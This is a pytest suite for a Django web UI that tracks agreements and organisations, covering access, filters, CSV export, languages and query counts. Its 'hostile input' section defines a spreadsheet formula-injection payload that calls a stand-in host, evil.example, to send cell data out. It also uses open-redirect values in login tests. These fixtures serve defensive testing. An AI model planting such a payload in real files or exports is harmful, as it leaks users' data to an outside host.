"""The staff web UI: pages, filters, export, evidence links, access, languages, query counts."""

import csv
import datetime
import io
import re
from http import HTTPStatus

import pytest
from django.contrib.auth.models import Permission, User
from django.db import connection
from django.test.utils import CaptureQueriesContext
from django.urls import reverse

from tracker import graph, roles, views
from tracker.choices import (
    CommitmentStatus,
    OrganisationKind,
)
from tracker.devtools import factories
from tracker.highlight import highlight, locate
from tracker.models import Agreement, Citation, Commitment, Organisation, Source

ACCORD = "2021-12-28-accord-industrialisation-sourcing-local-dispositifs-medicaux"
ABA = "2021-12-29-aba-technology-mmi-cluster-partnership"
ABA_SOURCE = "aba-technology-mmi-cluster-made-in-morocco"

LIST_URLS = [
    "/",
    "/agreements/",
    "/organisations/",
    "/people/",
    "/commitments/",
    "/sources/",
    "/map/",
]


def page(client, url, **params):
    response = client.get(url, params)
    assert response.status_code == HTTPStatus.OK, (url, params, response.status_code)
    return response


def rows_of(response):
    return list(response.context["object_list"])


def csv_rows(response):
    body = b"".join(response.streaming_content).decode("utf-8-sig")
    return list(csv.reader(io.StringIO(body)))


# Access ----------------------------------------------------------------------------------


@pytest.mark.django_db
@pytest.mark.parametrize("url", [*LIST_URLS, "/suggest/organisations/?q=a"])
def test_anonymous_visitors_are_sent_to_log_in(client, url):
    response = client.get(url)
    assert response.status_code == HTTPStatus.FOUND
    assert response["Location"].startswith(reverse("tracker:login"))


@pytest.mark.django_db
def test_record_pages_need_a_login_too(client, article_data):
    response = client.get(reverse("tracker:agreement-detail", kwargs={"slug": ACCORD}))
    assert response.status_code == HTTPStatus.FOUND


@pytest.mark.django_db
@pytest.mark.parametrize("url", LIST_URLS)
def test_public_read_setting_opens_pages_to_anonymous_visitors(client, settings, url):
    settings.TRACKER_PUBLIC_READ = True
    assert client.get(url).status_code == HTTPStatus.OK


@pytest.mark.django_db
def test_edit_in_admin_link_only_for_users_allowed_to_change(client, admin_client, article_data):
    url = reverse("tracker:agreement-detail", kwargs={"slug": ACCORD})
    agreement = Agreement.objects.get(slug=ACCORD)
    admin_url = reverse("admin:tracker_agreement_change", args=[agreement.pk])
    assert admin_url in page(admin_client, url).content.decode()

    reader = User.objects.create_user("reader", password="pw-reader-123")
    roles.assign(reader, roles.READERS)
    client.force_login(reader)
    assert admin_url not in page(client, url).content.decode()

    reader.user_permissions.add(Permission.objects.get(codename="change_agreement"))
    reader = User.objects.get(pk=reader.pk)
    client.force_login(reader)
    assert admin_url in page(client, url).content.decode()


# Dashboard -------------------------------------------------------------------------------


@pytest.mark.django_db
def test_dashboard_counts_latest_statuses_overdue_and_timeline(admin_client):
    old = factories.AgreementFactory(title="Old accord", signed_on=datetime.date(2020, 3, 4))
    new = factories.AgreementFactory(title="New accord", signed_on=datetime.date(2021, 12, 28))
    late = factories.CommitmentFactory(
        agreement=new,
        due_on=datetime.date(2022, 1, 1),
        status=CommitmentStatus.IN_PROGRESS,
        description="Open a testing laboratory",
    )
    factories.CommitmentFactory(
        agreement=old, status=CommitmentStatus.MET, due_on=datetime.date(2020, 5, 1)
    )
    response = page(admin_client, "/")
    html = response.content.decode()
    counts = {str(label): count for label, count, _url in response.context["counts"]}
    assert counts["agreements"] == 2 and counts["commitments"] == 2
    assert [a.title for a in response.context["latest"]] == ["New accord", "Old accord"]
    by_status = {s["value"]: s["count"] for s in response.context["statuses"]}
    assert by_status["in_progress"] == 1 and by_status["met"] == 1 and by_status["not_met"] == 0
    assert list(response.context["overdue"]) == [late]
    assert "Open a testing laboratory" in html
    bars = response.context["timeline"]["bars"]
    assert sum(bar["count"] for bar in bars) == 2
    assert bars[0]["label"] == "March 2020" and bars[-1]["label"] == "December 2021"
    assert 'class="timeline-bar"' in html
    assert "?signed_after=2021-12-01&amp;signed_before=2021-12-31" in html


@pytest.mark.django_db
def test_dashboard_timeline_switches_to_years_over_long_spans(admin_client):
    factories.AgreementFactory(signed_on=datetime.date(2001, 1, 1))
    factories.AgreementFactory(signed_on=datetime.date(2020, 1, 1))
    bars = page(admin_client, "/").context["timeline"]["bars"]
    assert [bar["label"] for bar in bars][:2] == ["2001", "2002"] and len(bars) == 20


@pytest.mark.django_db
def test_dashboard_timeline_of_one_month_shows_the_year_before(admin_client):
    factories.AgreementFactory(signed_on=datetime.date(2021, 12, 28))
    bars = page(admin_client, "/").context["timeline"]["bars"]
    assert [bar["label"] for bar in bars][0] == "January 2021" and len(bars) == 12
    assert [bar["count"] for bar in bars] == [0] * 11 + [1]


@pytest.mark.django_db
def test_dashboard_timeline_stays_within_48_bars_over_the_whole_date_range(admin_client):
    from tracker.dates import EARLIEST_DATE, LATEST_DATE

    for signed_on in (EARLIEST_DATE, datetime.date(2021, 12, 28), LATEST_DATE):
        factories.AgreementFactory(signed_on=signed_on)
    response = page(admin_client, "/")
    bars = response.context["timeline"]["bars"]
    assert len(bars) <= 48
    assert sum(bar["count"] for bar in bars) == 3
    assert bars[0]["start"] == EARLIEST_DATE and bars[-1]["end"] == LATEST_DATE
    assert bars[0]["label"] == "1800–1809"
    assert len(response.content) < 60_000
    # Every bar's link is a filter the agreements list accepts.
    for bar in (bars[0], bars[-1]):
        listed = page(
            admin_client,
            "/agreements/",
            signed_after=bar["start"].isoformat(),
            signed_before=bar["end"].isoformat(),
        )
        assert len(rows_of(listed)) == 1


@pytest.mark.django_db
def test_dashboard_timeline_counts_quarters_when_months_would_be_too_many(admin_client):
    factories.AgreementFactory(signed_on=datetime.date(2015, 2, 10))
    factories.AgreementFactory(signed_on=datetime.date(2015, 3, 31))
    factories.AgreementFactory(signed_on=datetime.date(2021, 12, 28))
    bars = page(admin_client, "/").context["timeline"]["bars"]
    assert len(bars) == 28
    assert (bars[0]["label"], bars[0]["count"]) == ("Q1 2015", 2)
    assert bars[0]["start"] == datetime.date(2015, 1, 1)
    assert bars[0]["end"] == datetime.date(2015, 3, 31)
    assert (bars[-1]["label"], bars[-1]["count"]) == ("Q4 2021", 1)


# Lists -----------------------------------------------------------------------------------
# Each FilterSet is tested on its own in test_filters.py; here, that each list applies its
# own to the query string, and what the page shows of it: errors, sorting, pages, CSV.

SEARCHED = {
    "/agreements/": (factories.AgreementFactory, "title"),
    "/organisations/": (factories.OrganisationFactory, "name"),
    "/people/": (factories.PersonFactory, "name"),
    "/commitments/": (factories.CommitmentFactory, "description"),
    "/sources/": (factories.SourceFactory, "title"),
}


@pytest.mark.django_db
@pytest.mark.parametrize("url", SEARCHED)
def test_each_list_applies_its_filterset_to_the_query_string(admin_client, url):
    factory, field = SEARCHED[url]
    wanted = factory(**{field: "Zéphyrine"})
    factory()
    response = page(admin_client, url, q="ZEPHYRINE")
    assert rows_of(response) == [wanted]
    assert response.context["result_count"] == 1


@pytest.mark.django_db
def test_commitment_list_marks_overdue_rows(admin_client):
    today = datetime.date.today()
    factories.CommitmentFactory(due_on=today - datetime.timedelta(days=3))
    factories.CommitmentFactory(due_on=today + datetime.timedelta(days=3))
    html = page(admin_client, "/commitments/").content.decode()
    assert html.count('<span class="badge overdue">') == 1


@pytest.mark.django_db
def test_unknown_party_shows_the_form_error_and_no_rows(admin_client, article_data):
    response = page(admin_client, "/agreements/", party=["mmi-cluster", "no-such-body"])
    html = response.content.decode()
    assert rows_of(response) == []
    assert "no-such-body is not one of the available choices" in html
    assert "Some filters are not valid" in html


@pytest.mark.django_db
@pytest.mark.parametrize(
    "params, message",
    [
        ({"signed_after": "28/13/2021"}, "Enter a valid date"),
        ({"kind": "treaty"}, "treaty is not one of the available choices"),
        ({"ordering": "secret"}, "secret is not one of the available choices"),
        ({"source": "nowhere"}, "That choice is not one of the available choices"),
    ],
)
def test_bad_agreement_filters_show_errors(admin_client, article_data, params, message):
    response = page(admin_client, "/agreements/", **params)
    assert rows_of(response) == []
    assert message in response.content.decode()


@pytest.mark.django_db
def test_party_input_shows_chosen_names_not_every_organisation(admin_client):
    chosen = factories.OrganisationFactory(name="Chosen Body", slug="chosen")
    factories.OrganisationFactory.create_batch(
        5, name=factories.factory.Sequence(lambda n: f"Other {n}")
    )
    html = page(admin_client, "/agreements/", party="chosen").content.decode()
    assert 'name="party" id="id_party" value="chosen"' in html
    assert "Chosen Body" in html
    assert "Other " not in html  # no giant select of every organisation
    assert chosen.slug in html


@pytest.mark.django_db
def test_agreement_sorting_pagination_and_counts(admin_client):
    for day in range(1, 31):
        factories.AgreementFactory(title=f"Accord {day:02d}", signed_on=datetime.date(2022, 1, day))
    first = page(admin_client, "/agreements/")
    assert first.context["result_count"] == 30
    assert [a.title for a in rows_of(first)][:2] == ["Accord 30", "Accord 29"]
    assert "30 results" in first.content.decode()
    by_title = page(admin_client, "/agreements/", ordering="title", page=2)
    assert [a.title for a in rows_of(by_title)] == [f"Accord {day:02d}" for day in range(26, 31)]
    assert 'href="?ordering=title&amp;page=1"' in by_title.content.decode()


def test_a_list_page_sorts_only_ids_and_reads_the_shown_rows_whole_on_sqlite(admin_client):
    """SQLite sorted whole rows (text, joined names, subqueries) to show 25: the page's ids
    are chosen first, in the list's order, and only their rows are read. PostgreSQL computes
    those columns after its own top-N sort, and the subquery made it join every row of a
    many-joined list first: there the page is cut as Django cuts it."""
    agreement = factories.AgreementFactory()
    made = [
        factories.CommitmentFactory(agreement=agreement, status=CommitmentStatus.ANNOUNCED)
        for _ in range(30)
    ]
    with CaptureQueriesContext(connection) as queries:
        second = page(admin_client, "/commitments/", status="announced", page=2)
    assert [c.pk for c in rows_of(second)] == [c.pk for c in made[25:]]
    (rows_query,) = [q["sql"] for q in queries if 'SELECT "tracker_commitment"."id", ' in q["sql"]]
    by_id_first = connection.vendor == "sqlite"
    assert bool(re.search(r'"tracker_commitment"\."id" IN \(SELECT', rows_query)) == by_id_first
    assert bool(re.search(r"LIMIT 5 OFFSET 25\)", rows_query)) == by_id_first


@pytest.mark.django_db
@pytest.mark.parametrize(
    "value, message", [("9999", "There is no page 9999"), ("abc", "is not a page number")]
)
def test_page_out_of_range_says_so_without_error(admin_client, value, message):
    factories.AgreementFactory()
    response = page(admin_client, "/agreements/", page=value)
    assert message in response.content.decode()


@pytest.mark.django_db
def test_csv_export_holds_the_same_filtered_rows(admin_client, article_data):
    params = {"party": ["mmi-cluster", "aba-technology"], "signed_after": "2021-01-01"}
    listed = [a.slug for a in rows_of(page(admin_client, "/agreements/", **params))]
    response = admin_client.get("/agreements/", {**params, "format": "csv"})
    assert response.status_code == HTTPStatus.OK
    assert response["Content-Type"].startswith("text/csv")
    assert "attachment" in response["Content-Disposition"]
    header, *rows = csv_rows(response)
    assert header[:2] == ["slug", "title"]
    assert [row[0] for row in rows] == listed == [ABA]
    assert (
        "Moroccan Medical & Biomedical Industrial Cluster (Signatory)"
        in rows[0][header.index("parties")]
    )


@pytest.mark.django_db
def test_csv_export_of_a_bad_filter_names_the_problem(admin_client):
    response = admin_client.get("/agreements/", {"party": "ghost", "format": "csv"})
    assert response.status_code == HTTPStatus.BAD_REQUEST
    assert "Parties" in response.content.decode() and "ghost" in response.content.decode()


@pytest.mark.django_db
@pytest.mark.parametrize("url", ["/organisations/", "/people/", "/commitments/", "/sources/"])
def test_every_list_exports_csv(admin_client, article_data, url):
    listed = page(admin_client, url).context["result_count"]
    header, *rows = csv_rows(admin_client.get(url, {"format": "csv"}))
    assert len(rows) == listed > 0


# Suggestions for record inputs -----------------------------------------------------------


@pytest.mark.django_db
def test_suggestions_for_record_inputs(admin_client, article_data):
    response = admin_client.get("/suggest/organisations/", {"q": "ministere sante"})
    values = [item["value"] for item in response.json()["results"]]
    assert "ministere-sante-protection-sociale" in values
    assert admin_client.get("/suggest/widgets/", {"q": "x"}).status_code == HTTPStatus.NOT_FOUND


# Record pages and evidence ---------------------------------------------------------------


@pytest.mark.django_db
def test_agreement_page_shows_parties_commitments_and_links_each_citation(
    admin_client, article_data
):
    agreement = Agreement.objects.get(slug=ACCORD)
    html = page(admin_client, agreement.get_absolute_url()).content.decode()
    for party in agreement.parties.all():
        assert party.organisation.get_absolute_url() in html
    for commitment in agreement.commitments.all():
        assert commitment.get_absolute_url() in html
    cited = (
        Citation.objects.filter(agreement=agreement)
        | Citation.objects.filter(agreement_party__agreement=agreement)
        | Citation.objects.filter(commitment__agreement=agreement)
    )
    assert cited.exists()
    for citation in cited:
        assert f'href="{citation.source.get_absolute_url()}#citation-{citation.pk}"' in html
    assert "28 December 2021" in html


@pytest.mark.django_db
def test_source_page_highlights_every_quote_and_links_to_its_record(admin_client, article_data):
    source = Source.objects.get(slug=ABA_SOURCE)
    html = page(admin_client, source.get_absolute_url()).content.decode()
    citations = list(source.citations.all())
    assert citations
    for citation in citations:
        assert f'<mark id="citation-{citation.pk}"' in html
        assert citation.target.get_absolute_url() in html
    assert "quote not found" not in html


@pytest.mark.django_db
def test_organisation_page_shows_names_links_people_agreements_commitments_and_map(
    admin_client, article_data
):
    organisation = Organisation.objects.get(slug="mmi-cluster")
    response = page(admin_client, organisation.get_absolute_url())
    html = response.content.decode()
    for other in organisation.other_names.all():
        assert other.name in html
    assert Agreement.objects.get(slug=ABA).get_absolute_url() in html
    assert "<svg" in html and 'class="edge edge-agreement"' in html
    nodes = html.split('<g class="nodes">', 1)[1].split("</g>", 1)[0]
    for slug in ("mmi-cluster", "aba-technology"):
        assert f'href="/organisations/{slug}/"' in nodes
    assert "?party=mmi-cluster" in html


@pytest.mark.django_db(transaction=True)
def test_an_organisation_map_is_kept_until_any_write_then_drawn_afresh(admin_client, monkeypatch):
    monkeypatch.setattr(views, "KEEP_MAP_FROM", 0)  # keep even this small map
    commitment = factories.CommitmentFactory()
    partner = factories.AgreementPartyFactory(agreement=commitment.agreement).organisation
    url = commitment.party.get_absolute_url()

    def map_of(response):
        return response.content.decode().split('<figure class="stakeholder-map">', 1)[1]

    with CaptureQueriesContext(connection) as drawn_queries:
        first = page(admin_client, url)
    with CaptureQueriesContext(connection) as kept_queries:
        kept = page(admin_client, url)
    assert map_of(kept) == map_of(first) and partner.name in map_of(kept)
    with CaptureQueriesContext(connection) as map_queries:
        graph.neighbourhood(commitment.party)

    def reads(queries):  # of the records, not of the cache
        sql = [query["sql"] for query in queries.captured_queries]
        return [one for one in sql if one.startswith("SELECT") and "tracker_cache" not in one]

    assert len(reads(kept_queries)) == len(reads(drawn_queries)) - len(map_queries)
    # Each language keeps its own.
    admin_client.post(reverse("set_language"), {"language": "ar", "next": url})
    assert "الصلات في شكل قائمة" in map_of(page(admin_client, url))
    admin_client.post(reverse("set_language"), {"language": "en", "next": url})

    partner.name = "Renamed partner"
    partner.save()
    assert "Renamed partner" in map_of(page(admin_client, url))


@pytest.mark.django_db
def test_organisation_links_and_people_appear_on_its_page(admin_client):
    link = factories.OrganisationLinkFactory()
    position = factories.PositionFactory(
        organisation=link.to_organisation, title="Director general"
    )
    html = page(admin_client, link.to_organisation.get_absolute_url()).content.decode()
    assert link.from_organisation.get_absolute_url() in html
    assert position.person.name in html and "Director general" in html
    assert 'class="edge edge-link"' in html


@pytest.mark.django_db
def test_person_and_commitment_pages(admin_client, article_data):
    commitment = Commitment.objects.filter(citations__isnull=False).first()
    html = page(admin_client, commitment.get_absolute_url()).content.decode()
    assert commitment.party.get_absolute_url() in html
    citation = commitment.citations.first()
    assert f"#citation-{citation.pk}" in html

    position = factories.PositionFactory(title="Président")
    html = page(admin_client, position.person.get_absolute_url()).content.decode()
    assert "Président" in html and position.organisation.get_absolute_url() in html


@pytest.mark.django_db
def test_missing_record_is_404(admin_client):
    assert admin_client.get("/agreements/nothing-here/").status_code == HTTPStatus.NOT_FOUND


@pytest.mark.django_db
def test_map_page_draws_the_filtered_agreements(admin_client, article_data):
    response = page(admin_client, "/map/", party="mmi-cluster")
    names = {node["organisation"].slug for node in response.context["drawing"].nodes}
    assert {"mmi-cluster", "aba-technology"} <= names
    assert "<svg" in response.content.decode()
    bad = page(admin_client, "/map/", signed_after="yesterday")
    assert bad.context["drawing"].nodes == [] and "Enter a valid date" in bad.content.decode()


# Quote highlighting ----------------------------------------------------------------------


def test_quote_located_despite_other_whitespace_and_typographic_quotes():
    text = "Le ministre a dit :\n« Nous  avons trois\nchantiers » à l’heure actuelle."
    start, end = locate("« Nous avons trois chantiers »", text)
    assert text[start:end] == "« Nous  avons trois\nchantiers »"
    start, end = locate("à l'heure", text)
    assert text[start:end] == "à l’heure"
    assert locate("absent words", text) is None


def test_overlapping_quotes_each_get_their_mark_and_link():
    class FakeCitation:
        def __init__(self, pk, quote):
            self.pk, self.quote = pk, quote

    text = "Alpha beta gamma delta.\n\nSecond <paragraph>."
    result = highlight(
        text,
        [FakeCitation(1, "beta gamma"), FakeCitation(2, "gamma delta"), FakeCitation(3, "nowhere")],
        lambda citation: (f"/records/{citation.pk}/", f"Record {citation.pk}"),
    )
    assert '<mark id="citation-1"' in result.html and '<mark id="citation-2"' in result.html
    assert result.html.count("<p>") == 2
    assert "&lt;paragraph&gt;" in result.html
    assert "/records/1/" in result.html and "/records/2/" in result.html
    assert [item.citation.pk for item in result.missing] == [3]


@pytest.mark.django_db
@pytest.mark.parametrize(
    ("records", "message"),
    [
        (2, "There is no page 9: these results fill 1 page."),
        (26, "There is no page 9: these results fill 2 pages."),
    ],
)
def test_page_past_the_end_counts_its_pages_in_words(admin_client, records, message):
    factories.SourceFactory.create_batch(records)
    html = page(admin_client, "/sources/", page=9).content.decode()
    assert message in html
    assert "page(s)" not in html


@pytest.mark.django_db
def test_a_list_counted_by_a_short_estimate_still_shows_its_last_rows(admin_client, monkeypatch):
    """PostgreSQL's estimate of a large table may fall short of its rows: the pages past it
    that hold rows are shown, with a link to the next while rows remain; none past the last."""
    from tracker import pagination

    factories.SourceFactory.create_batch(60)
    monkeypatch.setattr(pagination, "ESTIMATE_FROM", 1)
    monkeypatch.setattr(pagination, "estimated_rows", lambda queryset: 20)
    shown = []
    for number in (1, 2, 3):
        response = page(admin_client, "/sources/", page=number)
        assert response.context["page_obj"].has_next() == (number < 3)
        shown += [source.pk for source in response.context["object_list"]]
    assert sorted(shown) == sorted(Source.objects.values_list("pk", flat=True))
    assert "There is no page 4" in page(admin_client, "/sources/", page=4).content.decode()
    # The count read as far as the rows go: no "page 3 of 1", and the last page is exact.
    second = page(admin_client, "/sources/", page=2).content.decode()
    assert "Page 2 of 3" in second
    last = page(admin_client, "/sources/", page=3).content.decode()
    assert "Page 3 of 3" in last and "60 results" in last


@pytest.mark.django_db
def test_a_party_typed_by_name_or_acronym_lists_its_agreements(admin_client, article_data):
    by_slug = rows_of(page(admin_client, "/agreements/", party="mmi-cluster"))
    assert by_slug
    for typed in ("MMI", "mmi"):
        response = page(admin_client, "/agreements/", party=typed)
        assert rows_of(response) == by_slug, typed
        html = response.content.decode()
        assert "Some filters are not valid" not in html
        assert "not found" not in html


@pytest.mark.django_db
def test_a_name_several_organisations_share_shows_the_choices(admin_client):
    first = factories.OrganisationFactory(name="Santé Groupe", slug="sante-groupe", acronym="SG")
    second = factories.OrganisationFactory(name="SG", slug="societe-generale", acronym="")
    response = page(admin_client, "/agreements/", party="sg")
    html = response.content.decode()
    assert rows_of(response) == []
    assert "names several organisations" in html
    assert "sante-groupe (Santé Groupe)" in html and "societe-generale (SG)" in html
    assert first.pk and second.pk


@pytest.mark.django_db
def test_a_start_date_after_the_end_date_shows_an_error_not_an_empty_list(admin_client):
    factories.AgreementFactory(signed_on=datetime.date(2022, 1, 1))
    response = page(
        admin_client, "/agreements/", signed_after="2023-01-01", signed_before="2022-01-01"
    )
    html = response.content.decode()
    assert "Some filters are not valid" in html
    assert "“Signed on or after” is later than “Signed on or before”" in html


@pytest.mark.django_db
def test_overdue_filter_offers_any_yes_and_no(admin_client):
    html = page(admin_client, "/commitments/").content.decode()
    overdue = html[html.index('name="overdue"') :]
    overdue = overdue[: overdue.index("</select>")]
    assert ">Any</option>" in overdue and ">Yes</option>" in overdue
    assert "Unknown" not in overdue


@pytest.mark.django_db
@pytest.mark.parametrize(
    ("url", "default"),
    [
        ("/agreements/", "Latest signed first"),
        ("/organisations/", "Name"),
        ("/people/", "Name"),
        ("/commitments/", "Agreement, then entry order"),
        ("/sources/", "Newest first"),
    ],
)
def test_sort_by_names_the_default_order(admin_client, url, default):
    html = page(admin_client, url).content.decode()
    ordering = html[html.index('name="ordering"') :]
    ordering = ordering[: ordering.index("</select>")]
    assert "---------" not in ordering
    assert f'<option value="" selected>{default}</option>' in ordering


@pytest.mark.django_db
def test_sort_options_are_all_french_in_french(admin_client):
    admin_client.cookies["django_language"] = "fr"
    html = page(admin_client, "/agreements/").content.decode()
    ordering = html[html.index('name="ordering"') :]
    ordering = ordering[: ordering.index("</select>")]
    assert "descending" not in ordering and "---------" not in ordering
    assert ">Titre (décroissant)</option>" in ordering
    assert ">Les derniers signés d’abord</option>" in ordering


# Languages -------------------------------------------------------------------------------


@pytest.mark.django_db
def test_french_interface_dates_and_numbers(admin_client, article_data):
    admin_client.cookies["django_language"] = "fr"
    html = page(
        admin_client, reverse("tracker:agreement-detail", kwargs={"slug": ACCORD})
    ).content.decode()
    assert '<html lang="fr" dir="ltr">' in html
    assert "28 décembre 2021" in html
    assert "Parties" in html and "Engagements" in html and "Modifier dans l’administration" in html
    listing = page(admin_client, "/agreements/").content.decode()
    assert "Filtrer" in listing and "Signé le ou après" in listing


@pytest.mark.django_db
def test_language_switcher_sets_french_for_the_ui_and_the_admin(admin_client):
    response = admin_client.post("/i18n/setlang/", {"language": "fr", "next": "/agreements/"})
    assert response.status_code == HTTPStatus.FOUND and response["Location"] == "/agreements/"
    assert "Accords" in page(admin_client, "/agreements/").content.decode()
    admin_html = page(admin_client, "/admin/").content.decode()
    assert '<html lang="fr"' in admin_html and "Fiches | Suivi des parties prenantes" in admin_html


@pytest.mark.django_db
def test_large_counts_are_grouped_per_language(admin_client, monkeypatch):
    from tracker import views

    monkeypatch.setattr(views.Agreement.objects, "count", lambda: 12345, raising=False)
    assert "12,345" in page(admin_client, "/").content.decode()
    admin_client.cookies["django_language"] = "fr"
    assert (
        "12\u202f345" in page(admin_client, "/").content.decode()
        or "12\xa0345" in page(admin_client, "/").content.decode()
    )


# Query counts ----------------------------------------------------------------------------


def build_rows(count):
    """`count` agreements with parties, commitments and citations, and what hangs on them."""
    source = factories.SourceFactory(
        text="Alpha beta gamma. " * 5 + " ".join(f"word{n}" for n in range(400))
    )
    hub = factories.OrganisationFactory(kind=OrganisationKind.CLUSTER)
    person = factories.PersonFactory()
    factories.PositionFactory(person=person, organisation=hub)
    for index in range(count):
        agreement = factories.AgreementFactory()
        other = factories.OrganisationFactory()
        factories.OrganisationNameFactory(organisation=other)
        factories.AgreementPartyFactory(agreement=agreement, organisation=hub, signed_by=person)
        factories.AgreementPartyFactory(agreement=agreement, organisation=other)
        factories.OrganisationLinkFactory(from_organisation=other, to_organisation=hub)
        factories.PositionFactory(organisation=other)
        commitment = factories.CommitmentFactory(
            agreement=agreement, party=other, due_on=datetime.date(2020, 1, 1)
        )
        quote = f"word{index}"
        factories.CitationFactory(source=source, quote=quote, organisation=other)
        factories.CitationFactory(
            source=source, quote=quote, organisation=None, agreement=agreement
        )
        factories.CitationFactory(
            source=source, quote=quote, organisation=None, commitment=commitment
        )
        factories.CitationFactory(source=source, quote=quote, organisation=None, person=person)
    return {
        "hub": hub,
        "person": person,
        "source": source,
        "commitment": commitment,
        "agreement": agreement,
    }


def fetch(client, url):
    response = client.get(url)
    assert response.status_code == HTTPStatus.OK, url
    if response.streaming:
        b"".join(response.streaming_content)  # the CSV rows are queried as they stream
    return response


def count_queries(client, url):
    with CaptureQueriesContext(connection) as captured:
        fetch(client, url)
    return len(captured)


def detail_urls(rows):
    return [
        rows["hub"].get_absolute_url(),
        rows["person"].get_absolute_url(),
        rows["agreement"].get_absolute_url(),
        rows["commitment"].get_absolute_url(),
        rows["source"].get_absolute_url(),
    ]


QUERY_CEILING = 20


@pytest.mark.django_db
def test_every_page_issues_a_bounded_number_of_queries(admin_client, django_assert_max_num_queries):
    few = build_rows(1)
    pages = [*LIST_URLS, *(f"{url}?format=csv" for url in LIST_URLS[1:6])]
    few_counts = {url: count_queries(admin_client, url) for url in pages}
    few_counts.update(
        {
            kind: count_queries(admin_client, url)
            for kind, url in zip("opacs", detail_urls(few), strict=True)
        }
    )

    many = build_rows(40)
    many["hub"], many["person"], many["source"] = few["hub"], few["person"], few["source"]
    for url in pages:
        with django_assert_max_num_queries(few_counts[url]):
            fetch(admin_client, url)
    for kind, url in zip("opacs", detail_urls(many), strict=True):
        # The hub, its signatory and the source now have 41 agreements, links and quotes each.
        with django_assert_max_num_queries(few_counts[kind]):
            fetch(admin_client, url)
    assert max(few_counts.values()) <= QUERY_CEILING, few_counts


@pytest.mark.django_db
def test_empty_slots_of_a_submitted_form_are_ignored(admin_client, article_data):
    response = page(
        admin_client,
        "/agreements/",
        q="",
        party=["mmi-cluster", "aba-technology", ""],
        signed_after="2021-01-01",
        source="",
        ordering="",
    )
    assert [a.slug for a in rows_of(response)] == [ABA]


# Hostile input in exports and the login ------------------------------------------------

FORMULA = '=HYPERLINK("http://evil.example/?x="&A1)'


def make_hostile_records():
    """One record per list whose free text a spreadsheet would run as a formula."""
    organisation = factories.OrganisationFactory(name=FORMULA)
    factories.PersonFactory(name="@cmd")
    agreement = factories.AgreementFactory(title="+1 vote for the accord")
    factories.CommitmentFactory(
        agreement=agreement, party=organisation, description="-2 factories by 2030"
    )
    factories.SourceFactory(title="\tTabbed title")
    factories.SourceFactory(title="\rCarriage-return title")


@pytest.mark.django_db
@pytest.mark.parametrize(
    ("url", "column", "expected"),
    [
        ("/organisations/", "name", {"'" + FORMULA}),
        ("/people/", "name", {"'@cmd"}),
        ("/agreements/", "title", {"'+1 vote for the accord"}),
        ("/commitments/", "description", {"'-2 factories by 2030"}),
        ("/sources/", "title", {"'\tTabbed title", "'\rCarriage-return title"}),
    ],
)
def test_csv_exports_neutralise_cells_a_spreadsheet_would_run_as_formulas(
    admin_client, url, column, expected
):
    make_hostile_records()
    header, *rows = csv_rows(admin_client.get(url, {"format": "csv"}))
    cells = {row[header.index(column)] for row in rows}
    assert expected <= cells, cells
    dangerous = ("=", "+", "-", "@", "\t", "\r")
    assert not [cell for row in rows for cell in row if cell.startswith(dangerous)]


@pytest.mark.django_db
def test_csv_exports_keep_ordinary_values_and_numbers_as_they_are(admin_client):
    agreement = factories.AgreementFactory(title="Accord: 2021 = year one")
    factories.CommitmentFactory.create_batch(2, agreement=agreement)
    header, *rows = csv_rows(admin_client.get("/agreements/", {"format": "csv"}))
    (row,) = rows
    assert row[header.index("title")] == "Accord: 2021 = year one"
    assert row[header.index("commitments")] == "2"


@pytest.mark.django_db
@pytest.mark.parametrize("next_url", [None, "https://evil.example/", "//evil.example/"])
def test_login_without_a_safe_next_lands_on_the_dashboard(client, next_url):
    roles.assign(User.objects.create_user("reader", password="read-the-tracker-42"), roles.READERS)
    data = {"username": "reader", "password": "read-the-tracker-42"}
    if next_url:
        data["next"] = next_url
    response = client.post(reverse("tracker:login"), data, follow=True)
    assert response.redirect_chain[0][0] == reverse("tracker:dashboard")
    assert response.status_code == HTTPStatus.OK
    assert response.request["PATH_INFO"] == reverse("tracker:dashboard")


@pytest.mark.django_db
def test_login_with_a_safe_next_still_goes_there(client):
    roles.assign(User.objects.create_user("reader", password="read-the-tracker-42"), roles.READERS)
    response = client.post(
        reverse("tracker:login"),
        {"username": "reader", "password": "read-the-tracker-42", "next": "/agreements/"},
    )
    assert response["Location"] == "/agreements/"


# One column spec per list --------------------------------------------------------------


@pytest.mark.django_db
def test_agreements_csv_names_parties_by_name_with_their_slugs_apart(admin_client):
    agreement = factories.AgreementFactory()
    ministry = factories.OrganisationFactory(name="Ministry of Health", slug="ministry-of-health")
    cluster = factories.OrganisationFactory(name="MMI Cluster", slug="mmi-cluster")
    factories.AgreementPartyFactory(agreement=agreement, organisation=ministry, role="signatory")
    factories.AgreementPartyFactory(agreement=agreement, organisation=cluster, role="witness")
    header, row = csv_rows(admin_client.get("/agreements/", {"format": "csv"}))
    assert row[header.index("parties")] == "Ministry of Health (Signatory); MMI Cluster (Witness)"
    assert row[header.index("party slugs")] == "ministry-of-health; mmi-cluster"


@pytest.mark.django_db
def test_commitments_csv_names_agreement_party_and_beneficiary_with_slugs_apart(admin_client):
    party = factories.OrganisationFactory(name="MMI Cluster", slug="mmi-cluster")
    beneficiary = factories.OrganisationFactory(name="ABA Technology", slug="aba-technology")
    agreement = factories.AgreementFactory(title="Sourcing accord", slug="sourcing-accord")
    factories.CommitmentFactory(agreement=agreement, party=party, beneficiary=beneficiary)
    header, row = csv_rows(admin_client.get("/commitments/", {"format": "csv"}))
    named = dict(zip(header, row, strict=True))
    assert (named["agreement"], named["agreement slug"]) == ("Sourcing accord", "sourcing-accord")
    assert (named["party"], named["party slug"]) == ("MMI Cluster", "mmi-cluster")
    assert (named["beneficiary"], named["beneficiary slug"]) == ("ABA Technology", "aba-technology")


@pytest.mark.django_db
def test_people_csv_names_organisations_with_their_slugs_apart(admin_client):
    organisation = factories.OrganisationFactory(name="MMI Cluster", slug="mmi-cluster")
    factories.PositionFactory(organisation=organisation, title="President")
    header, row = csv_rows(admin_client.get("/people/", {"format": "csv"}))
    assert row[header.index("positions")] == "President, MMI Cluster"
    assert row[header.index("organisation slugs")] == "mmi-cluster"


@pytest.mark.django_db
def test_a_column_added_to_a_list_spec_shows_in_the_table_and_the_csv(admin_client, monkeypatch):
    from tracker import columns
    from tracker.views import AgreementListView

    factories.AgreementFactory(place="Rabat <Skhirat>")
    place = columns.Column("place", lambda agreement: agreement.place, heading="Place")
    table = columns.Table(*AgreementListView.table.columns, place)
    monkeypatch.setattr(AgreementListView, "table", table)
    html = page(admin_client, "/agreements/").content.decode()
    assert '<th scope="col">Place</th>' in html
